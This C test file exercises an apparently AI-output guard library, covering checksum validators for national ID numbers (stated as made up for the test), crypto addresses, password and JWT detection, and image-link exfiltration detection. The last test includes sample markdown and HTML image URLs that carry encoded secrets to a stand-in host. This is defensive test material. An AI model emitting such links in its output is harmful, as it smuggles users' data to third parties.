/*
 * National identifiers: a right number, the same with one wrong sign, and what
 * is no number at all.  The numbers are made for this test.
 */

#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdlib.h>
#include <string.h>

#include <cmocka.h>

#include "llmg_checksum.h"


typedef struct {
    int         (*check)(llmg_str_t found);
    const char   *right;
    const char   *wrong;        /* NULL: the check knows places, no sum */
} number_t;


static const number_t  numbers[] = {
    { llmg_check_us_itin, "982965724", "982935724" },
    { llmg_check_us_npi, "2646446049", "2646446040" },
    { llmg_check_us_mbi, "6P15 WC6 KN30", "6P15 WC6 KB30" },
    { llmg_check_us_dea, "EL7383449", "EL7383440" },
    { llmg_check_us_aba, "323851978", "323851970" },
    { llmg_check_us_ein, "26-8195044", "28-8195044" },
    { llmg_check_imei, "625155788346564", "625155788346560" },
    { llmg_check_ca_sin, "692-913-072", "692-913-070" },
    { llmg_check_ca_bn, "442605069", "442605060" },
    { llmg_check_br_cpf, "377.921.796-13", "377.921.796-10" },
    { llmg_check_br_cnpj, "76.615.247/7770-30", "76.615.247/7770-31" },
    { llmg_check_mx_curp, "JTCY361129HVYREMP3", "JTCY361129HVYREMP0" },
    { llmg_check_mx_rfc, "PXY2609129MQ", "PXY2609329MQ" },
    { llmg_check_mx_rfc_digit, "BYP520207JU7", "BYP520207JU0" },
    { llmg_check_ar_cuit, "76350547637", "76350547630" },
    { llmg_check_ar_cbu, "2364963188505777710654",
          "2364963188505777710650" },
    { llmg_check_cl_rut, "51.314.470-9", "51.314.470-0" },
    { llmg_check_co_nit, "287.595.828-6", "287.595.828-0" },
    { llmg_check_pe_cui, "79687951-9", "79687951-0" },
    { llmg_check_ec_ci, "1150830758", "1150830750" },
    { llmg_check_uk_nhs, "927 299 0785", "927 299 0780" },
    { llmg_check_uk_nino, "BX547958B", "BX547958E" },
    { llmg_check_uk_utr, "3594217415", "3594217410" },
    { llmg_check_uk_vat, "841601791", "841601790" },
    { llmg_check_uk_driving, "MORGA110020UM4DM", "MORGA110000UM4DM" },
    { llmg_check_ie_pps, "2195816K", "2195816A" },
    { llmg_check_de_tax_id, "42176490358", "42176490350" },
    { llmg_check_eu_vat, "DE649994025", "DE649994020" },
    { llmg_check_de_document, "C0NT0TKK0", "C0NT0TKA0" },
    { llmg_check_de_social, "84200455V604", "84200455V600" },
    { llmg_check_de_health, "D032220608", "D032220600" },
    { llmg_check_de_lanr, "176059833", "176059033" },
    { llmg_check_at_svnr, "8601051272", "8601051270" },
    { llmg_check_at_tin, "81-174/6486", "81-174/6480" },
    { llmg_check_ch_ahv, "756.2898.8656.64", "756.2898.8656.60" },
    { llmg_check_fr_nir, "385825861517586", "385825861517580" },
    { llmg_check_fr_siren, "720 032 226", "720 032 220" },
    { llmg_check_es_nif, "50830273C", "50830273A" },
    { llmg_check_es_nie, "Y4921413W", "Y4921413A" },
    { llmg_check_es_cif, "G81436974", "G81436970" },
    { llmg_check_es_ccc, "0772-9111-15-4380359905",
          "0772-9111-15-4380359900" },
    { llmg_check_it_fiscal, "GCFXWR28S54X676J", "GCFXWR28S54X676A" },
    { llmg_check_it_vat, "38750259665", "38750259660" },
    { llmg_check_pt_nif, "491556063", "491556060" },
    { llmg_check_pt_cc, "92819392 4 TW6", "92819392 4 TW0" },
    { llmg_check_nl_bsn, "527674540", "527674541" },
    { llmg_check_be_nn, "68.22.22-913.09", "68.22.22-913.00" },
    { llmg_check_dk_cpr, "150559-4318", "150059-4318" },
    { llmg_check_se_personal, "391124-8031", "391124-8030" },
    { llmg_check_se_org, "834017-4047", "834017-4040" },
    { llmg_check_no_fnr, "14515855875", "14515855870" },
    { llmg_check_fi_hetu, "040870-631E", "040870-631A" },
    { llmg_check_is_kennitala, "050124-3719", "050124-3711" },
    { llmg_check_ee_ik, "39005303474", "39005303470" },
    { llmg_check_lv_pk, "328673-00679", "328673-00677" },
    { llmg_check_pl_pesel, "01322705345", "01322705340" },
    { llmg_check_pl_regon, "380245106", "380245100" },
    { llmg_check_pl_nip, "2280282241", "2280282240" },
    { llmg_check_cz_rc, "650102/7907", "650102/7900" },
    { llmg_check_ro_cnp, "3790809648131", "3790809648130" },
    { llmg_check_ro_cui, "22149586", "22149580" },
    { llmg_check_bg_egn, "0532012037", "0532012030" },
    { llmg_check_gr_amka, "15127998993", "15127998990" },
    { llmg_check_gr_afm, "168363654", "168363650" },
    { llmg_check_hr_oib, "90433567062", "90433567060" },
    { llmg_check_yu_jmbg, "2203902363241", "2203902363240" },
    { llmg_check_tr_id, "11477419004", "11477419000" },
    { llmg_check_ua_rntrc, "4356513159", "4356513150" },
    { llmg_check_ru_inn, "4927074955", "4927074950" },
    { llmg_check_ru_snils, "803-459-039 92", "803-459-039 90" },
    { llmg_check_au_tfn, "243-194-229", "243-194-220" },
    { llmg_check_au_abn, "14 604 083 907", "14 604 083 900" },
    { llmg_check_au_acn, "198 893 131", "198 893 130" },
    { llmg_check_au_medicare, "3491070175", "3491070105" },
    { llmg_check_nz_ird, "155196084", "155196080" },
    { llmg_check_il_id, "065326530", "065326531" },
    { llmg_check_za_id, "0901302130264", "0901302130260" },
    { llmg_check_in_aadhaar, "7745-8353-1908", "7745-8353-1900" },
    { llmg_check_in_pan, "YWRGV0347Q", "YWRDV0347Q" },
    { llmg_check_in_voter, "WKH1186253", "WKH1186263" },
    { llmg_check_in_gstin, "32QWELN6559CEZ1", "32QWELN6559CEZ0" },
    { llmg_check_cn_id, "596662195103114858", "596662195103114850" },
    { llmg_check_cn_uscc, "91883183MACEY9JN0K", "91883183MACEY9JN0A" },
    { llmg_check_cn_uscc_form, "91643425MAY5QTM219", "190223742626500352" },
    { llmg_check_kr_rrn, "230520-3318103", "230520-1318103" },
    { llmg_check_kr_rrn_digit, "910106-2157360", "910106-2157361" },
    { llmg_check_kr_rrn_digit, "840219-2303646", "920531-7320828" },
    { llmg_check_kr_frn_digit, "920531-7320828", "920531-7320820" },
    { llmg_check_kr_frn_digit, "580301-5033225", "840219-2303646" },
    { llmg_check_kr_frn, "030406-7824135", "030406-0824135" },
    { llmg_check_kr_brn, "165-54-65244", "165-54-65240" },
    { llmg_check_kr_driver, "24-94-341236-86", "29-94-341236-86" },
    { llmg_check_jp_my_number, "5191-3413-0810", "5191-3413-0811" },
    { llmg_check_jp_corporate, "1681809923575", "1681809923570" },
    { llmg_check_th_pin, "6715415748035", "6715415748030" },
    { llmg_check_sg_nric, "S8874690B", "S8874690A" },
    { llmg_check_sg_uen, "34171720K", "34171720A" },
    { llmg_check_my_nric, "121124-36-8198", "121134-36-8198" },
    { llmg_check_id_npwp, "74.951.936.9-562.156",
          "74.951.936.0-562.156" },
    { llmg_check_id_nik, "2539796509770732", "2539796500770732" },
    { llmg_check_tw_id, "C142033306", "C142033300" },
    { llmg_check_hk_id, "X017698(U)", "X017698(A)" },
};


static int
check(int (*f)(llmg_str_t), const char *bytes, size_t len)
{
    int             rc;
    llmg_str_t      s;
    unsigned char  *data;

    /* an exact copy, for a sanitizer to see a read behind it */

    data = malloc(len == 0 ? 1 : len);
    assert_non_null(data);
    memcpy(data, bytes, len);

    s.data = data;
    s.len = len;
    rc = f(s);

    free(data);

    return rc;
}


static void
right_numbers_pass_and_wrong_ones_do_not(void **state)
{
    size_t           i;
    const number_t  *n;

    (void) state;

    for (i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++) {
        n = &numbers[i];

        if (!check(n->check, n->right, strlen(n->right))) {
            fail_msg("%s is right", n->right);
        }

        if (n->wrong != NULL && check(n->check, n->wrong, strlen(n->wrong))) {
            fail_msg("%s is wrong", n->wrong);
        }
    }
}


static void
pieces_and_repetitions_are_no_numbers(void **state)
{
    char             text[300];
    size_t           i, k;
    const number_t  *n;

    static const char  bytes[] = "09A Zaz-./&\xFF";

    (void) state;

    for (i = 0; i < sizeof(numbers) / sizeof(numbers[0]); i++) {
        n = &numbers[i];

        /* every piece is looked at, whatever the answer */

        for (k = 0; k <= strlen(n->right); k++) {
            (void) check(n->check, n->right, k);
            (void) check(n->check, n->right + k, strlen(n->right) - k);
        }

        assert_false(check(n->check, "", 0));

        for (k = 0; k < sizeof(bytes) - 1; k++) {
            memset(text, bytes[k], sizeof(text));

            assert_false(check(n->check, text, sizeof(text)));
            (void) check(n->check, text, 1);
            (void) check(n->check, text, strlen(n->right));
        }
    }
}


static void
coins_have_their_checksums(void **state)
{
    static const struct {
        int         (*check)(llmg_str_t found);
        const char   *text;
        int           right;
    } coins[] = {
        /* the genesis block; BIP 173 and 350; EIP-55 */
        { llmg_check_base58, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNa", 1 },
        { llmg_check_base58, "1A1zP1eP5QGefi2DMPTfTL5SLmv7DivfNb", 0 },
        { llmg_check_base58, "1A1zP1eP5QGefi2DMPTfTL5SLmv7Divf0a", 0 },
        { llmg_check_bech32, "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4", 1 },
        { llmg_check_bech32, "BC1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", 1 },
        { llmg_check_bech32, "bc1QW508D6QEJXTDG4Y5R3ZARVARY0C5XW7KV8F3T4", 0 },
        { llmg_check_bech32, "bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t5", 0 },
        { llmg_check_bech32, "bc1p0xlxvlhemja6c4dqv22uapctqupfhlxm9h8z3k2e72q"
                             "4k9hcz7vqzk5jj0", 1 },
        { llmg_check_ethereum, "0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAed",
          1 },
        { llmg_check_ethereum, "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d359",
          1 },
        { llmg_check_ethereum, "0xfb6916095ca1df60bb79ce92ce3ea74c37c5d359",
          1 },
        { llmg_check_ethereum, "0xfB6916095ca1df60bB79Ce92cE3Ea74c37c5d35A",
          0 },
        { llmg_check_ethereum, "0x0000000000000000000000000000000000000000",
          0 }
    };
    size_t  i;

    (void) state;

    for (i = 0; i < sizeof(coins) / sizeof(coins[0]); i++) {
        if (check(coins[i].check, coins[i].text, strlen(coins[i].text))
            != coins[i].right)
        {
            fail_msg("%s", coins[i].text);
        }
    }
}


static void
passwords_are_no_words_and_no_variables(void **state)
{
    size_t  i;

    static const char *const  used[] = {
        "Tr0ub4dor&3", "x9!kLm22", "Sommer2023!", "hunter2-blue", "p@ssw0rd$1"
    };
    static const char *const  not[] = {
        "password", "PASSWORD", "${DB_PASSWORD}", "secret", "changeme",
        "<your password>", "********", "required", "get_password", "abc",
        "os.environ", "process.env.PW1", "xxxxxxxxxx", "your-password1",
        "getpass()", ""
    };

    (void) state;

    for (i = 0; i < sizeof(used) / sizeof(char *); i++) {
        if (!check(llmg_check_password, used[i], strlen(used[i]))) {
            fail_msg("%s", used[i]);
        }
    }

    for (i = 0; i < sizeof(not) / sizeof(char *); i++) {
        if (check(llmg_check_password, not[i], strlen(not[i]))) {
            fail_msg("%s", not[i]);
        }
    }
}


/* behind "my password is" there is often a sentence */

static void
passwords_that_are_said_are_no_sentences(void **state)
{
    size_t  i;

    static const char *const  used[] = {
        "maple_7Trick", "Winter$1bm", "summer2023", "8blue-Fox!Trick"
    };
    static const char *const  not[] = {
        "SHA256-hashed", "bcrypt2", "8-character", "case-sensitive", "wrong",
        "3.2.1", "12345678", "base64-encoded", "RFC2617", "hunter2", ""
    };

    (void) state;

    for (i = 0; i < sizeof(used) / sizeof(char *); i++) {
        if (!check(llmg_check_password_said, used[i], strlen(used[i]))) {
            fail_msg("%s", used[i]);
        }
    }

    for (i = 0; i < sizeof(not) / sizeof(char *); i++) {
        if (check(llmg_check_password_said, not[i], strlen(not[i]))) {
            fail_msg("%s", not[i]);
        }
    }
}


/* RFC 7515: the header of a token is an object of JSON, all of it */

static void
headers_of_tokens_are_whole_or_cut(void **state)
{
    size_t  i;

    static const char *const  cut[] = {
        "eyJ" "hbGciOiJIUzI1NiI.e30",       /* {"alg":"HS256" */
        "eyJ" "hbGciOiJub25lIn19.e30",      /* {"alg":"none"}} */
        "eyJ" "hbGciOiJub25.e30",           /* {"alg":"non */
        "eyJ" "hIjoiw7w.e30"                /* {"a":"\xC3\xBC */
    };
    static const char *const  whole[] = {
        "eyJ" "hbGciOiJIUzI1NiJ9.e30",      /* {"alg":"HS256"} */
        "eyJ" "hIjoifSJ9.e30",              /* {"a":"}"} */
        "eyJ" "hIjoiXCJ9In0.e30",           /* {"a":"\"}"} */
        "eyJ" "hIjpbMV19.e30",              /* {"a":[1]} */
        "eyJ" "hbGciaB3dE6gHkL9mN2pQ.e30",  /* no text */
        "eyJ" "hbGciOiJIUzI1NiI",           /* no dot */
        ".e30", ""
    };

    (void) state;

    for (i = 0; i < sizeof(cut) / sizeof(char *); i++) {
        if (!check(llmg_check_jwt_cut, cut[i], strlen(cut[i]))
            || check(llmg_check_jwt_whole, cut[i], strlen(cut[i])))
        {
            fail_msg("%s", cut[i]);
        }
    }

    for (i = 0; i < sizeof(whole) / sizeof(char *); i++) {
        if (check(llmg_check_jwt_cut, whole[i], strlen(whole[i]))
            || !check(llmg_check_jwt_whole, whole[i], strlen(whole[i])))
        {
            fail_msg("%s", whole[i]);
        }
    }
}


static void
addresses_carry_data_or_do_not(void **state)
{
    size_t  i;

    static const char *const  out[] = {
        "![](https://a.example/p.png?q=the%20key%20is%2012345)",
        "<img src=//a.example/?d=cGFzc3dvcmQgaHVudGVyMg>",
        "https://70617373776f72642068756e74657232aabbccdd.a.example/x.png",
        "https://a.example/user=ann@example.com"
    };
    static const char *const  home[] = {
        "https://www.example.com/logo.png", "/static/logo.png", "", "//",
        "https://cdn.example.com/lib/v3.2/app.min.js", "https://a.example",
        "https://img.shields.io/badge/build-passing-green.svg"
    };

    (void) state;

    for (i = 0; i < sizeof(out) / sizeof(char *); i++) {
        if (!check(llmg_check_exfil_image, out[i], strlen(out[i]))) {
            fail_msg("%s", out[i]);
        }
    }

    for (i = 0; i < sizeof(home) / sizeof(char *); i++) {
        if (check(llmg_check_exfil_image, home[i], strlen(home[i]))
            || check(llmg_check_exfil_link, home[i], strlen(home[i])))
        {
            fail_msg("%s", home[i]);
        }
    }
}


int
main(void)
{
    const struct CMUnitTest  tests[] = {
        cmocka_unit_test(right_numbers_pass_and_wrong_ones_do_not),
        cmocka_unit_test(pieces_and_repetitions_are_no_numbers),
        cmocka_unit_test(coins_have_their_checksums),
        cmocka_unit_test(passwords_are_no_words_and_no_variables),
        cmocka_unit_test(passwords_that_are_said_are_no_sentences),
        cmocka_unit_test(headers_of_tokens_are_whole_or_cut),
        cmocka_unit_test(addresses_carry_data_or_do_not),
    };

    cmocka_set_message_output(CM_OUTPUT_TAP);

    return cmocka_run_group_tests(tests, NULL, NULL);
}
